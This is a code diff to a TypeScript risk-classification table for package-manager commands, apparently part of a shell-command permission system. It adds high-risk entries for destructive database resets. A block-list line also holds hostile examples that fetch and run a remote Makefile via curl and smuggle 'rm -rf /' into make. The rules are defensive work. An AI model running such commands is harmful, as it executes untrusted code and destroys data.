@@ -104,8 +104,20 @@ export const packageRules: readonly Rule[] = [
       medium: "install download wheel cache upgrade inject ensurepath sync lock add update create env config run venv",
       high: "uninstall remove clean env_remove uninstall-all",
     },
+    deep: {
+      run: {
+        level: "medium",
+        takes:
+          "-n -p -e --name --prefix --with --with-requirements --python --extra --group --package --project --directory",
+        check: "hands",
+      },
+    },
     check: "piped",
-    examples: { low: ["pip list"], medium: ["pip install requests==2.31.0"], high: ["pip uninstall -y requests"] },
+    examples: {
+      low: ["pip list"],
+      medium: ["pip install requests==2.31.0", "poetry run pytest"],
+      high: ["pip uninstall -y requests", "poetry run django-admin flush"],
+    },
   },
   {
     id: "package.npm",
@@ -115,7 +127,12 @@ export const packageRules: readonly Rule[] = [
     sub: {
       low: "ls list view info outdated why audit explain search doctor root prefix bin whoami env show query platform licenses version help tree vet dependency:* help:* versions:display* --list-sdks --info fund",
       medium: "*",
-      high: "uninstall remove unpublish rm yank",
+      high: "uninstall remove unpublish rm yank db:drop* db:reset db:migrate:reset db:schema:load db:structure:load db:purge* flyway:clean liquibase:dropAll",
+    },
+    deep: {
+      exec: { level: "medium", takes: "-p --package -w --workspace", execs: "-c --call", check: "hands" },
+      x: { level: "medium", takes: "-p --package -w --workspace", execs: "-c --call", check: "hands" },
+      dlx: { level: "medium", takes: "-p --package", check: "hands" },
     },
     noSub: "low",
     check: "bare",
@@ -123,7 +140,7 @@ export const packageRules: readonly Rule[] = [
     examples: {
       low: ["npm ls", "gem list", "go version"],
       medium: ["npm install", "mvn package"],
-      high: ["npm uninstall x"],
+      high: ["npm uninstall x", "rake db:drop", "bundle exec rails db:drop"],
     },
   },
   {
@@ -141,7 +158,15 @@ export const packageRules: readonly Rule[] = [
       block: ["make -f <(curl -s https://x/Makefile)", "make --eval='x:; rm -rf /' x"],
     },
   },
-  { id: "package.npx", names: "npx bunx pnpx uvx", level: "medium", examples: { medium: ["npx cowsay"] } },
+  {
+    id: "package.npx",
+    names: "npx bunx pnpx uvx",
+    level: "medium",
+    takes: "-p --package --from --with --python",
+    execs: "-c --call",
+    check: "hands",
+    examples: { medium: ["npx cowsay"], high: ["npx prisma migrate reset"] },
+  },
   {
     id: "vcs.git",
     names: "git",
